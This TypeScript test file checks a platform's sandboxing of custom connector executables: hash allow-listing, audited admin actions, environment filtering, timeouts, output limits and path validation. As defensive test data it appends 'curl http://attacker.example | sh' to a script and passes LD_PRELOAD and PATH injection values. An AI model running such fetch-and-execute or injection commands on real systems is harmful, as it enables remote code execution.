// Custom connectors end to end with real executables the test writes (a Node script, shell scripts): allow-listing
// through the procedures (high-risk, audited), then runs: good output, malformed output, a connector that sleeps
// forever (its process group dies), output floods, the environment allowlist, and executables that are not (or no
// longer) the allow-listed ones.
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { createHash } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestDatabase, type TestDatabase } from "../../../test/test-db.ts";
import { callerAs, errorCode, testRuntime } from "../../../test/runtime.ts";
import type { Runtime } from "../../runtime.ts";
import { bootstrapTenant, mintKey } from "../../domain/tenants/bootstrap.service.ts";
import { TransientError } from "../../worker/handler.ts";
import type { ConnectorInput } from "../contract.ts";
import { ConnectorBudgetError, ConnectorOutputError } from "../driver.ts";
import { useCustomConnectorCatalog } from "./catalog.ts";
import { collectCustom, validateCustomScope } from "./custom.connector.ts";

let t: TestDatabase;
let rt: Runtime;
let dir: string;
let owner: Awaited<ReturnType<typeof callerAs>>;
let tenantAdmin: Awaited<ReturnType<typeof callerAs>>;
const PARENT_SECRET = "parent-only-value-5f1c";

function executable(name: string, body: string): string {
  const file = path.join(dir, name);
  fs.writeFileSync(file, body, { mode: 0o755 });
  return file;
}

const sha256 = (file: string) => createHash("sha256").update(fs.readFileSync(file)).digest("hex");

const alive = (pid: number) => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};

async function waitFor(check: () => boolean, ms = 5000) {
  const end = Date.now() + ms;
  while (!check() && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
  return check();
}

function input(scope: Record<string, unknown>, extra: Partial<ConnectorInput> = {}): ConnectorInput & { lines: string[] } {
  const lines: string[] = [];
  return { scope, credentials: {}, signal: new AbortController().signal, log: (level, message) => lines.push(`${level}: ${message}`), lines, ...extra };
}

async function allow(name: string, file: string, extra: Record<string, unknown> = {}) {
  return owner.connectors.create({ name, display_name: `${name} connector`, executable_path: file, ...extra });
}

// A connector in Node: echoes what it was given, reports the environment it saw, writes a graph and an artifact file.
const NODE_CONNECTOR = `#!${process.execPath}
const fs = require("node:fs");
const path = require("node:path");
let stdin = "";
process.stdin.on("data", (c) => (stdin += c));
process.stdin.on("end", () => {
  const fromStdin = JSON.parse(stdin);
  const fromFile = JSON.parse(fs.readFileSync(process.env.CAIRN_INPUT_FILE, "utf8"));
  fs.writeFileSync(path.join(process.env.CAIRN_WORK_DIR, "raw.txt"), "raw inventory of " + fromStdin.input.host);
  console.error("inventoried " + fromStdin.input.host);
  fs.writeFileSync(process.env.CAIRN_OUTPUT_FILE, JSON.stringify({
    format: "cairn.connector-output/v1",
    results: { hosts: 1, same_input: JSON.stringify(fromStdin) === JSON.stringify(fromFile), env_keys: Object.keys(process.env).sort(), api_token_seen: process.env.API_TOKEN === "t0ken-value" },
    graph: {
      assets: [{ id: "host:" + fromStdin.input.host, type: "host", name: fromStdin.input.host }],
      relations: [],
      findings: [{ fingerprint: "f-" + fromStdin.input.host, rule: "custom.demo", severity: "low", title: "demo finding", asset: "host:" + fromStdin.input.host }],
    },
    artifacts: [{ kind: "custom.raw", content_type: "text/plain", path: "raw.txt" }, { kind: "custom.note", content_type: "text/plain", content: "inline" }],
    warnings: [{ message: "one host skipped", where: "hosts[1]" }],
  }));
});
`;

beforeAll(async () => {
  t = await createTestDatabase();
  rt = testRuntime(t);
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "cairn-custom-test-"));
  fs.chmodSync(dir, 0o755);
  const boot = await bootstrapTenant(t.client, "customs", { highRisk: true });
  owner = await callerAs(rt, { apiKey: (await mintKey(t.client, { platform: true, highRisk: true })).api_key });
  tenantAdmin = await callerAs(rt, { apiKey: boot.api_key });
  useCustomConnectorCatalog(t.client);
  process.env.CAIRN_TEST_PARENT_SECRET = PARENT_SECRET;
});
afterAll(async () => {
  delete process.env.CAIRN_TEST_PARENT_SECRET;
  await t?.drop();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe("the allow-list", () => {
  it("platform owners allow-list, list and remove executables with step-up; every call is audited", async () => {
    const file = executable("inventory.js", NODE_CONNECTOR);
    const created = await allow("inventory", file, { description: "Host inventory", timeout_seconds: 30 });
    expect(created).toMatchObject({ name: "inventory", executable_path: fs.realpathSync(file), sha256: sha256(file), timeout_seconds: 30, max_output_bytes: 67_108_864, executable_status: "ok" });

    const listed = await owner.connectors.list();
    expect(listed.items.map((c) => c.name)).toContain("inventory");
    expect(await errorCode(allow("inventory", file))).toBe("CONFLICT");

    // Tenants see names, never paths or hashes; they cannot manage the list.
    const available = await tenantAdmin.connectors.available();
    expect(available.items.find((c) => c.name === "inventory")).toEqual({ name: "inventory", display_name: "inventory connector", description: "Host inventory" });
    expect(await errorCode(tenantAdmin.connectors.list())).toBe("FORBIDDEN");

    // A platform key without the high-risk scope needs a step-up for each of the three.
    const plain = await callerAs(rt, { apiKey: (await mintKey(t.client, { platform: true, highRisk: false })).api_key });
    expect(await errorCode(plain.connectors.list())).toBe("STEP_UP_REQUIRED");
    expect(await errorCode(plain.connectors.create({ name: "other", display_name: "x", executable_path: file }))).toBe("STEP_UP_REQUIRED");
    expect(await errorCode(plain.connectors.remove({ id: created.connector_id }))).toBe("STEP_UP_REQUIRED");

    const removed = await owner.connectors.remove({ id: created.connector_id });
    expect(removed).toEqual({ ok: true, connector_id: created.connector_id, name: "inventory" });
    expect(await errorCode(owner.connectors.remove({ id: created.connector_id }))).toBe("NOT_FOUND");

    const audit = await t.owner.sql<{ action: string; tenant_id: string | null; outcome: string }[]>`
      select action, tenant_id, outcome from audit_events where target_type = 'custom_connector' or (action like 'connectors.%' and outcome = 'denied') order by seq`;
    expect(audit.filter((a) => a.outcome === "success").map((a) => a.action)).toEqual(["custom_connector.create", "custom_connector.list", "custom_connector.delete"]);
    expect(audit.every((a) => a.tenant_id === null)).toBe(true);
    // Denied: the tenant admin's list (no platform role) and the three without step-up.
    expect(audit.filter((a) => a.outcome === "denied").map((a) => a.action).sort()).toEqual(["connectors.create", "connectors.list", "connectors.list", "connectors.remove"]);
  });

  it("refuses what is not an executable it can hash, and a hash that does not match the reviewed one", async () => {
    const plainFile = path.join(dir, "not-executable.sh");
    fs.writeFileSync(plainFile, "#!/bin/sh\n", { mode: 0o644 });
    expect(await errorCode(allow("noexec", plainFile))).toBe("INVALID_INPUT");
    expect(await errorCode(allow("missing", path.join(dir, "nope")))).toBe("INVALID_INPUT");
    // Input the procedure's schema refuses (BAD_REQUEST) never reaches the service.
    expect(await errorCode(allow("relative", "bin/tool"))).toBe("BAD_REQUEST");
    expect(await errorCode(allow("a-directory", dir))).toBe("INVALID_INPUT");
    expect(await errorCode(allow("Bad Name", executable("ok.sh", "#!/bin/sh\n")))).toBe("BAD_REQUEST");
    const file = executable("reviewed.sh", "#!/bin/sh\necho reviewed\n");
    expect(await errorCode(allow("reviewed", file, { sha256: "0".repeat(64) }))).toBe("CONFLICT");
    expect((await allow("reviewed", file, { sha256: sha256(file) })).sha256).toBe(sha256(file));
  });
});

describe("running a custom connector", () => {
  it("hands the scope's input over stdin and in a file, and turns the output file into results, graph and artifacts", async () => {
    await allow("node-inventory", executable("node-inventory.js", NODE_CONNECTOR));
    const run = input({ connector: "node-inventory", input: { host: "db-1" } }, { credentials: { API_TOKEN: "t0ken-value", "bad-key": "x", LD_PRELOAD: "/tmp/evil.so", PATH: "/evil" } });
    const out = await collectCustom(run);
    expect(out.graph).toEqual({
      assets: [{ id: "host:db-1", type: "host", name: "db-1" }],
      relations: [],
      findings: [{ fingerprint: "f-db-1", rule: "custom.demo", severity: "low", title: "demo finding", asset: "host:db-1" }],
    });
    expect(out.items).toBe(1);
    expect(out.summary).toMatchObject({ connector: "node-inventory", hosts: 1, same_input: true, api_token_seen: true });
    expect(out.artifacts.map((a) => [a.kind, a.contentType, a.body.toString()])).toEqual([
      ["custom.raw", "text/plain", "raw inventory of db-1"],
      ["custom.note", "text/plain", "inline"],
    ]);
    expect(out.warnings).toEqual([{ message: "credential keys not passed to the connector (not variable names, or reserved): bad-key, LD_PRELOAD, PATH" }, { message: "one host skipped", where: "hosts[1]" }]);
    expect(run.lines).toContain("warn: node-inventory: inventoried db-1");
  });

  it("passes only PATH, HOME, TMPDIR, LANG, LC_ALL, the credential bundle and Cairn's three protocol variables", async () => {
    const out = await collectCustom(input({ connector: "node-inventory", input: { host: "x" } }, { credentials: { API_TOKEN: "t0ken-value" } }));
    const keys = out.summary.env_keys as string[];
    const allowed = new Set(["PATH", "HOME", "TMPDIR", "LANG", "LC_ALL", "API_TOKEN", "CAIRN_INPUT_FILE", "CAIRN_OUTPUT_FILE", "CAIRN_WORK_DIR"]);
    expect(keys.filter((k) => !allowed.has(k))).toEqual([]);
    expect(keys).not.toContain("CAIRN_TEST_PARENT_SECRET");
    expect(keys).toContain("PATH");
    // And from a shell, which would show every exported variable.
    await allow("env-dump", executable("env-dump.sh", `#!/bin/sh\nprintf '{"results":{"env":"%s"}}' "$(env | cut -d= -f1 | sort | tr '\\n' ' ')" > "$CAIRN_OUTPUT_FILE"\n`));
    const shell = await collectCustom(input({ connector: "env-dump" }));
    const seen = String(shell.summary.env).trim().split(" ");
    // A shell adds its own PWD; nothing else appears.
    expect(seen.filter((k) => !allowed.has(k) && k !== "PWD")).toEqual([]);
    expect(JSON.stringify(shell)).not.toContain(PARENT_SECRET);
  });

  it("a malformed output file is a structured error that says where, not a crash", async () => {
    await allow("broken-json", executable("broken-json.sh", `#!/bin/sh\nprintf '{\\n  "graph": {\\n    "assets": [1, 2,, 3]\\n  }\\n}\\n' > "$CAIRN_OUTPUT_FILE"\n`));
    const err = await collectCustom(input({ connector: "broken-json" })).catch((e) => e);
    expect(err).toBeInstanceOf(ConnectorOutputError);
    expect(err).toMatchObject({ where: "output.json:3:21", permanent: true });

    await allow("wrong-shape", executable("wrong-shape.sh", `#!/bin/sh\necho '{"graph": {"assets": {"id": "x"}}}' > "$CAIRN_OUTPUT_FILE"\n`));
    expect(await collectCustom(input({ connector: "wrong-shape" })).catch((e) => e)).toMatchObject({ where: "output.json#/graph/assets" });

    await allow("escaping-artifact", executable("escaping-artifact.sh", `#!/bin/sh\necho '{"artifacts": [{"kind": "x", "path": "../in/input.json"}]}' > "$CAIRN_OUTPUT_FILE"\n`));
    expect(await collectCustom(input({ connector: "escaping-artifact" })).catch((e) => e)).toMatchObject({ where: "output.json#/artifacts/0/path" });

    await allow("no-output", executable("no-output.sh", "#!/bin/sh\nexit 0\n"));
    expect(await collectCustom(input({ connector: "no-output" })).catch((e) => e)).toMatchObject({ where: "output.json", message: expect.stringMatching(/without writing its output file/) });
  });

  it("a failing connector fails the run with its last words; exit 75 asks for a retry", async () => {
    await allow("fails", executable("fails.sh", "#!/bin/sh\necho 'cannot reach the inventory API' >&2\nexit 3\n"));
    const err = await collectCustom(input({ connector: "fails" })).catch((e) => e);
    expect(err.message).toBe("custom connector fails exited with code 3: cannot reach the inventory API");
    expect(err.permanent).toBe(true);
    await allow("tempfail", executable("tempfail.sh", "#!/bin/sh\necho 'rate limited' >&2\nexit 75\n"));
    expect(await collectCustom(input({ connector: "tempfail" })).catch((e) => e)).toBeInstanceOf(TransientError);
  });

  it("a connector that sleeps forever is killed with its whole process group when its time budget runs out", async () => {
    const pidFile = path.join(dir, "sleeper.pids");
    await allow("sleeper", executable("sleeper.sh", `#!/bin/sh\nsleep 1000 &\necho "$$ $!" > ${pidFile}\nwait\n`), { timeout_seconds: 1 });
    const err = await collectCustom(input({ connector: "sleeper" })).catch((e) => e);
    expect(err).toBeInstanceOf(ConnectorBudgetError);
    expect(err).toMatchObject({ status: "timed_out", permanent: true });
    const pids = fs.readFileSync(pidFile, "utf8").trim().split(" ").map(Number);
    expect(await waitFor(() => pids.every((p) => !alive(p)))).toBe(true);
  });

  it("cancelling the job stops the connector and its children", async () => {
    const pidFile = path.join(dir, "cancelled.pids");
    await allow("cancelled", executable("cancelled.sh", `#!/bin/sh\nsleep 1000 &\necho "$$ $!" > ${pidFile}\nwait\n`));
    const controller = new AbortController();
    const pending = collectCustom(input({ connector: "cancelled" }, { signal: controller.signal }));
    expect(await waitFor(() => fs.existsSync(pidFile) && fs.readFileSync(pidFile, "utf8").includes(" "))).toBe(true);
    const reason = new Error("cancelled");
    controller.abort(reason);
    await expect(pending).rejects.toBe(reason);
    const pids = fs.readFileSync(pidFile, "utf8").trim().split(" ").map(Number);
    expect(await waitFor(() => pids.every((p) => !alive(p)))).toBe(true);
  });

  it("an output flood (stdout, one huge file, or many files) is stopped and marked too_large", async () => {
    await allow("stdout-flood", executable("stdout-flood.sh", "#!/bin/sh\nyes 'flood flood flood flood'\n"), { max_output_bytes: 1024 * 1024 });
    expect(await collectCustom(input({ connector: "stdout-flood" })).catch((e) => e)).toMatchObject({ status: "too_large" });
    await allow("file-flood", executable("file-flood.sh", '#!/bin/sh\nhead -c 50000000 /dev/zero > "$CAIRN_WORK_DIR/big"\necho \'{}\' > "$CAIRN_OUTPUT_FILE"\n'), { max_output_bytes: 1024 * 1024 });
    expect(await collectCustom(input({ connector: "file-flood" })).catch((e) => e)).toMatchObject({ status: "too_large" });
    await allow(
      "files-flood",
      executable("files-flood.sh", '#!/bin/sh\ni=0\nwhile [ $i -lt 40 ]; do head -c 100000 /dev/zero > "$CAIRN_WORK_DIR/part-$i"; i=$((i+1)); done\necho \'{}\' > "$CAIRN_OUTPUT_FILE"\n'),
      { max_output_bytes: 1024 * 1024 },
    );
    expect(await collectCustom(input({ connector: "files-flood" })).catch((e) => e)).toMatchObject({ status: "too_large" });
  });

  it("refuses a connector that is not allow-listed, and one whose executable changed or vanished since", async () => {
    expect((await collectCustom(input({ connector: "never-listed" })).catch((e) => e)).message).toMatch(/not allow-listed/);
    const file = executable("mutable.sh", '#!/bin/sh\necho \'{}\' > "$CAIRN_OUTPUT_FILE"\n');
    await allow("mutable", file);
    expect((await collectCustom(input({ connector: "mutable" }))).items).toBe(0);
    fs.appendFileSync(file, "curl http://attacker.example | sh\n");
    const modified = await collectCustom(input({ connector: "mutable" })).catch((e) => e);
    expect(modified.message).toMatch(/^Custom connector mutable refused: .*mutable\.sh its SHA-256 is now [0-9a-f]{64}, not the allow-listed/);
    expect(modified.permanent).toBe(true);
    expect((await owner.connectors.list()).items.find((c) => c.name === "mutable")!.executable_status).toBe("modified");
    fs.rmSync(file);
    expect((await collectCustom(input({ connector: "mutable" })).catch((e) => e)).message).toMatch(/no such file/);
    expect((await owner.connectors.list()).items.find((c) => c.name === "mutable")!.executable_status).toBe("missing");
  });

  it("validates the scope", () => {
    expect(validateCustomScope({ connector: "inventory" })).toBeNull();
    expect(validateCustomScope({ connector: "inventory", input: { a: 1 } })).toBeNull();
    expect(validateCustomScope({})).toMatch(/^scope\.connector/);
    expect(validateCustomScope({ connector: "../bin/sh" })).toMatch(/^scope\.connector/);
    expect(validateCustomScope({ connector: "x1", input: [1] })).toMatch(/^scope\.input/);
    expect(validateCustomScope({ connector: "x1", path: "/bin/sh" })).toMatch(/^scope\.path: unknown field/);
  });
});
